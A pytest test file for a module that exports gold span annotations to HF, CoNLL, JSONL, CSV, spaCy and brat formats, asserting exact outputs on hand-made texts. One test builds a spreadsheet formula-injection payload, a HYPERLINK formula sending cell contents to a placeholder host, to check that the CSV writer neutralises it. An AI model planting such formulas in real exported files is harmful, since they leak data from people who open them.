"""Exact output of each gold export format on small hand-made documents."""
import csv
import hashlib
import io
import json
import sys
import zipfile
from collections.abc import Iterator

import pytest

from app.gold.formats import (
    FORMAT_MEDIA_TYPE,
    FORMAT_SUFFIX,
    FORMATS,
    FormatUnavailable,
    hf_tag_names,
    spacy_words_and_spaces,
    write_export,
    write_spacy_docbin,
)
from app.gold.records import AttributeSpec, ExportContext, GoldDocument, GoldSpan

CTX = ExportContext(
    release="2026-02-r1",
    schema_id="factspan-default",
    schema_version="1.2.0",
    labels=("sourced_readout", "author_inference", "unverifiable_claim"),
    bio_tags={"sourced_readout": "READOUT", "author_inference": "INFERENCE", "unverifiable_claim": "UNVERIFIABLE"},
)
# Emoji with a skin-tone modifier, a combining accent (e + U+0301), CJK, and a span across a newline.
TEXT_A = 'Xi said: "We agree 👍🏽."\nPutin, cafe\u0301 中文 nods.'
ATTRIBUTES = {
    "explicit": True,
    "hedged": False,
    "cue_text": "Xi said",
    "source": "xi",
    "confidence": 0.9,
    "count": 2,
    "targets": ["a", "b"],
    "none": None,
}
PROVENANCE = {
    "proposed_by": ["ann1", "ann2"],
    "decision": "accepted_majority",
    "adjudicator": "rev1",
    "decision_id": 12,
}
TEXT_B = "Dr. Smith met the U.S. team. They agreed."


def _doc(doc_id: str, text: str, spans: tuple[GoldSpan, ...], meta: dict | None = None) -> GoldDocument:
    return GoldDocument(doc_id, text, hashlib.sha256(text.encode("utf-8")).hexdigest(), spans, meta or {})


DOC_A = _doc(
    "a/1",
    TEXT_A,
    (
        GoldSpan(10, 22, "sourced_readout", ATTRIBUTES, PROVENANCE),
        GoldSpan(22, 36, "author_inference", {}, {"decision": "accepted_unanimous"}),
        GoldSpan(37, 39, "unverifiable_claim", {}, {}),
    ),
    {"title": "Readout", "agreement": {"f1_exact": 0.8}},
)
# Overlapping spans: BIO cannot hold both.
DOC_B = _doc("b 2", TEXT_B, (GoldSpan(0, 28, "sourced_readout"), GoldSpan(18, 41, "author_inference")))
DOC_C = _doc("a_1", "Nothing here.", ())
DOCS = (DOC_A, DOC_B, DOC_C)


def export(fmt: str, docs=DOCS, ctx: ExportContext = CTX) -> tuple[bytes, object]:
    out = io.BytesIO()
    stats = write_export(fmt, iter(docs), out, ctx)
    return out.getvalue(), stats


def test_hand_made_spans_cover_the_intended_text() -> None:
    assert [TEXT_A[s.start : s.end] for s in DOC_A.spans] == ["We agree 👍🏽.", '"\nPutin, cafe\u0301', "中文"]
    assert [TEXT_B[s.start : s.end] for s in DOC_B.spans] == ["Dr. Smith met the U.S. team.", "U.S. team. They agreed."]


def test_hf_exact_output() -> None:
    data, stats = export("hf", (DOC_A, DOC_B))
    first, second = data.decode("utf-8").splitlines()
    assert first == (
        '{"id":"a/1","tokens":["Xi","said",":","\\"","We","agree","👍🏽",".","\\"",'
        '"Putin",",","cafe\u0301","中","文","nods","."],'
        '"ner_tags":[0,0,0,0,1,2,2,2,3,3,4,4,5,6,0,0],'
        '"token_offsets":[[0,2],[3,7],[7,8],[9,10],[10,12],[13,18],[19,21],[21,22],[22,23],[24,29],[29,30],[31,36],'
        "[37,38],[38,39],[40,44],[44,45]]}"
    )
    record = json.loads(second)
    assert record["ner_tags"] == [1, 2, 2, 2, 2, 2, 2, 2, 2, 2, 2, 3, 4, 4]
    assert stats.bio_conflicts == 1


def test_hf_tag_names_follow_label_order() -> None:
    assert hf_tag_names(CTX) == [
        "O",
        "B-READOUT",
        "I-READOUT",
        "B-INFERENCE",
        "I-INFERENCE",
        "B-UNVERIFIABLE",
        "I-UNVERIFIABLE",
    ]


def test_hf_token_partly_inside_a_span_counts_as_inside() -> None:
    doc = _doc("p", "unbelievable news", (GoldSpan(2, 6, "author_inference"),))
    assert json.loads(export("hf", (doc,))[0])["ner_tags"] == [3, 0]


def test_hf_empty_text_has_no_tokens() -> None:
    record = json.loads(export("hf", (_doc("e", "", ()),))[0])
    assert record == {"id": "e", "tokens": [], "ner_tags": [], "token_offsets": []}


def test_hf_rejects_a_label_outside_the_context() -> None:
    doc = _doc("x", "Some words.", (GoldSpan(0, 4, "opinion"),))
    with pytest.raises(ValueError, match="'opinion' is not one of the export's labels"):
        export("hf", (doc,))


def test_conll_exact_output() -> None:
    data, stats = export("conll", (DOC_B, DOC_C))
    assert data.decode("utf-8") == (
        "# text_id = b 2\n"
        "Dr\t0\t2\tB-READOUT\n.\t2\t3\tI-READOUT\nSmith\t4\t9\tI-READOUT\nmet\t10\t13\tI-READOUT\n"
        "the\t14\t17\tI-READOUT\nU\t18\t19\tI-READOUT\n.\t19\t20\tI-READOUT\nS\t20\t21\tI-READOUT\n"
        ".\t21\t22\tI-READOUT\nteam\t23\t27\tI-READOUT\n.\t27\t28\tI-READOUT\n"
        "\n"
        "They\t29\t33\tB-INFERENCE\nagreed\t34\t40\tI-INFERENCE\n.\t40\t41\tI-INFERENCE\n"
        "\n"
        "# text_id = a_1\n"
        "Nothing\t0\t7\tO\nhere\t8\t12\tO\n.\t12\t13\tO\n"
        "\n"
    )
    assert stats.bio_conflicts == 1


def test_conll_breaks_sentences_at_a_newline_and_the_span_begins_again_with_b() -> None:
    blocks = export("conll", (DOC_A,))[0].decode("utf-8").split("\n\n")
    assert blocks[0].splitlines()[-1] == '"\t22\t23\tB-INFERENCE'
    assert blocks[1].splitlines()[0] == "Putin\t24\t29\tB-INFERENCE"
    assert blocks[1].splitlines()[1] == ",\t29\t30\tI-INFERENCE"


CROSSING = _doc("x", "They met. Both agreed.", (GoldSpan(5, 21, "sourced_readout"),))


def test_conll_a_span_across_a_sentence_begins_each_part_with_b() -> None:
    rows = [line.split("\t")[-1] for line in export("conll", (CROSSING,))[0].decode("utf-8").splitlines()
            if "\t" in line]
    assert rows == ["O", "B-READOUT", "I-READOUT", "B-READOUT", "I-READOUT", "O"]


def test_hf_a_span_across_a_sentence_begins_each_part_with_b() -> None:
    names = hf_tag_names(CTX)
    line = json.loads(export("hf", (CROSSING,))[0])
    assert [names[t] for t in line["ner_tags"]] == ["O", "B-READOUT", "I-READOUT", "B-READOUT", "I-READOUT", "O"]


def test_jsonl_exact_line() -> None:
    line = export("jsonl", (DOC_B,))[0].decode("utf-8")
    assert line == (
        '{"id":"b 2","text":"Dr. Smith met the U.S. team. They agreed.",'
        f'"sha256":"{DOC_B.sha256}",'
        '"spans":[{"start":0,"end":28,"label":"sourced_readout","attributes":{},"provenance":{}},'
        '{"start":18,"end":41,"label":"author_inference","attributes":{},"provenance":{}}],'
        '"meta":{"release":"2026-02-r1","schema_id":"factspan-default",'
        '"schema_version":"1.2.0","offset_unit":"codepoint"}}\n'
    )


def test_csv_exact_output() -> None:
    data = export("csv", (DOC_B, DOC_C))[0].decode("utf-8")
    assert data == (
        "text_id,start,end,label,attributes,span_text,provenance\r\n"
        "b 2,0,28,sourced_readout,{},Dr. Smith met the U.S. team.,{}\r\n"
        "b 2,18,41,author_inference,{},U.S. team. They agreed.,{}\r\n"
    )


def test_csv_keeps_attributes_and_multiline_span_text() -> None:
    rows = list(csv.DictReader(io.StringIO(export("csv", (DOC_A,))[0].decode("utf-8"), newline="")))
    assert [row["span_text"] for row in rows] == [TEXT_A[s.start : s.end] for s in DOC_A.spans]
    assert json.loads(rows[0]["attributes"]) == ATTRIBUTES
    assert json.loads(rows[0]["provenance"]) == PROVENANCE


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_cells_a_spreadsheet_would_run(start: str) -> None:
    payload = start + "HYPERLINK(\"http://x.test/?\"&A1)"
    doc = _doc(payload, payload + " said so.", (GoldSpan(0, len(payload), "sourced_readout"),))
    [row] = list(csv.DictReader(io.StringIO(export("csv", (doc,))[0].decode("utf-8"), newline="")))
    assert (row["text_id"], row["span_text"]) == ("'" + payload, "'" + payload)


def test_spacy_exact_tokens_and_spans() -> None:
    record = json.loads(export("spacy", (DOC_B,))[0])
    assert record["text"] == TEXT_B
    assert record["tokens"][:3] == [
        {"text": "Dr", "start": 0, "end": 2, "id": 0, "ws": False},
        {"text": ".", "start": 2, "end": 3, "id": 1, "ws": True},
        {"text": "Smith", "start": 4, "end": 9, "id": 2, "ws": True},
    ]
    assert record["spans"] == [
        {"start": 0, "end": 28, "label": "sourced_readout", "token_start": 0, "token_end": 10},
        {"start": 18, "end": 41, "label": "author_inference", "token_start": 5, "token_end": 13},
    ]
    assert record["meta"] == {
        "id": "b 2",
        "sha256": DOC_B.sha256,
        "release": "2026-02-r1",
        "schema_id": "factspan-default",
        "schema_version": "1.2.0",
        "offset_unit": "codepoint",
    }


def test_spacy_token_indices_cover_each_span() -> None:
    record = json.loads(export("spacy", (DOC_A,))[0])
    tokens = record["tokens"]
    for span in record["spans"]:
        assert tokens[span["token_start"]]["start"] == span["start"]
        assert tokens[span["token_end"]]["end"] == span["end"]
        assert TEXT_A[span["start"] : span["end"]] in {TEXT_A[s.start : s.end] for s in DOC_A.spans}


@pytest.mark.parametrize("text", ["a  b", " lead", "trail \n", "x\ny", "", "  ", 'Say "hi" 👍🏽 now.'])
def test_spacy_words_and_spaces_rebuild_the_text(text: str) -> None:
    words, spaces = spacy_words_and_spaces(text)
    assert "".join(w + (" " if s else "") for w, s in zip(words, spaces)) == text


def _docbin_docs(path) -> list:
    from spacy.tokens import DocBin
    from spacy.vocab import Vocab

    return list(DocBin().from_disk(path).get_docs(Vocab()))


def test_spacy_docbin_round_trip(tmp_path) -> None:
    write_spacy_docbin(iter(DOCS), tmp_path / "gold.spacy", CTX)
    loaded = _docbin_docs(tmp_path / "gold.spacy")
    assert [(doc.text, doc.user_data["id"]) for doc in loaded] == [(gold.text, gold.id) for gold in DOCS]
    assert [[(s.start_char, s.end_char, s.label_) for s in doc.spans[CTX.spans_key]] for doc in loaded] == [
        [(s.start, s.end, s.label) for s in gold.spans] for gold in DOCS
    ]


def test_spacy_docbin_widens_a_span_that_cuts_a_token(tmp_path) -> None:
    doc = _doc("w", "Putin agreed today.", (GoldSpan(2, 9, "author_inference"),))
    write_spacy_docbin(iter([doc]), tmp_path / "gold.spacy", CTX)
    [loaded] = _docbin_docs(tmp_path / "gold.spacy")
    assert [(s.start_char, s.end_char) for s in loaded.spans[CTX.spans_key]] == [(0, 12)]


def test_spacy_docbin_needs_spacy(tmp_path, monkeypatch) -> None:
    for module in ("spacy", "spacy.tokens", "spacy.vocab"):
        monkeypatch.setitem(sys.modules, module, None)  # as if spaCy were not installed
    with pytest.raises(FormatUnavailable, match="pip install spacy"):
        write_spacy_docbin(iter(DOCS), tmp_path / "gold.spacy", CTX)


def test_brat_zip_entries() -> None:
    archive = zipfile.ZipFile(io.BytesIO(export("brat")[0]))
    # "a/1" and "a_1" sanitise to the same stem, so the second gets a suffix.
    names = ["a_1.txt", "a_1.ann", "b_2.txt", "b_2.ann", "a_1-2.txt", "a_1-2.ann", "annotation.conf", "README.md"]
    assert archive.namelist() == names
    assert archive.read("a_1.txt").decode("utf-8") == TEXT_A
    assert archive.read("a_1-2.ann") == b""


def test_brat_ann_exact_output() -> None:
    archive = zipfile.ZipFile(io.BytesIO(export("brat")[0]))
    assert archive.read("a_1.ann").decode("utf-8") == (
        "T1\tREADOUT 10 22\tWe agree 👍🏽.\n"
        "A1\texplicit T1\n"
        "#1\tAnnotatorNotes T1\tcue_text=Xi said\n"
        "A2\tsource T1 xi\n"
        "A3\tconfidence T1 0.9\n"
        "A4\tcount T1 2\n"
        '#2\tAnnotatorNotes T1\ttargets=["a","b"]\n'
        'T2\tINFERENCE 22 23;24 36\t" Putin, cafe\u0301\n'
        "T3\tUNVERIFIABLE 37 39\t中文\n"
    )
    assert archive.read("b_2.ann").decode("utf-8") == (
        "T1\tREADOUT 0 28\tDr. Smith met the U.S. team.\nT2\tINFERENCE 18 41\tU.S. team. They agreed.\n"
    )


SCHEMA_CTX = ExportContext(
    release=CTX.release, schema_id=CTX.schema_id, schema_version=CTX.schema_version, labels=CTX.labels,
    bio_tags=CTX.bio_tags,
    attributes={
        "sourced_readout": (AttributeSpec("source", "enum", ("russian_readout", "chinese_readout")),
                            AttributeSpec("author_framing", "bool"), AttributeSpec("cue_text", "string")),
        "author_inference": (AttributeSpec("inference_type", "enum", ("speculation", "interpretation")),
                             AttributeSpec("source", "enum", ("russian_readout",))),
    },
)


def test_brat_annotation_conf_declares_every_schema_attribute_and_value() -> None:
    doc = _doc("s", "Xi spoke. He agreed.", (GoldSpan(0, 8, "sourced_readout", {"source": "xi"}),))
    conf = zipfile.ZipFile(io.BytesIO(export("brat", (doc,), SCHEMA_CTX)[0])).read("annotation.conf").decode("utf-8")
    attributes = conf.split("[attributes]\n")[1].splitlines()
    assert attributes == [
        "author_framing\tArg:READOUT",
        "inference_type\tArg:INFERENCE, Value:speculation|interpretation",
        "source\tArg:READOUT|INFERENCE, Value:russian_readout|chinese_readout|xi",
    ]


def test_brat_annotation_conf() -> None:
    archive = zipfile.ZipFile(io.BytesIO(export("brat")[0]))
    assert archive.read("annotation.conf").decode("utf-8") == (
        "[entities]\nREADOUT\nINFERENCE\nUNVERIFIABLE\n\n"
        "[relations]\n<OVERLAP>\tArg1:<ENTITY>, Arg2:<ENTITY>, <OVL-TYPE>:<ANY>\n\n"
        "[events]\n\n"
        "[attributes]\n"
        "confidence\tArg:<ENTITY>, Value:0.9\n"
        "count\tArg:<ENTITY>, Value:2\n"
        "explicit\tArg:<ENTITY>\n"
        "source\tArg:<ENTITY>, Value:xi\n"
    )


@pytest.mark.parametrize("fmt", FORMATS)
def test_writers_stream_each_document_before_reading_the_next(fmt: str) -> None:
    out = io.BytesIO()
    sizes = []

    def documents() -> Iterator[GoldDocument]:
        for doc in DOCS:
            sizes.append(out.tell())
            yield doc

    write_export(fmt, documents(), out, CTX)
    assert sizes[0] < sizes[1] < sizes[2]


@pytest.mark.parametrize("fmt", FORMATS)
def test_stats_count_documents_spans_labels_and_bytes(fmt: str) -> None:
    calls = []
    out = io.BytesIO()
    stats = write_export(fmt, iter(DOCS), out, CTX, on_document=lambda: calls.append(1))
    assert (stats.documents, stats.spans, len(calls)) == (3, 5, 3)
    assert stats.label_counts == {"sourced_readout": 2, "author_inference": 2, "unverifiable_claim": 1}
    assert stats.bytes_written == len(out.getvalue())


def test_every_format_has_a_suffix_and_media_type() -> None:
    assert set(FORMAT_SUFFIX) == set(FORMAT_MEDIA_TYPE) == set(FORMATS)
    assert len(set(FORMAT_SUFFIX.values())) == len(FORMATS)


def test_unknown_format_is_rejected() -> None:
    with pytest.raises(ValueError, match="Unknown export format 'xml'"):
        write_export("xml", iter(DOCS), io.BytesIO(), CTX)
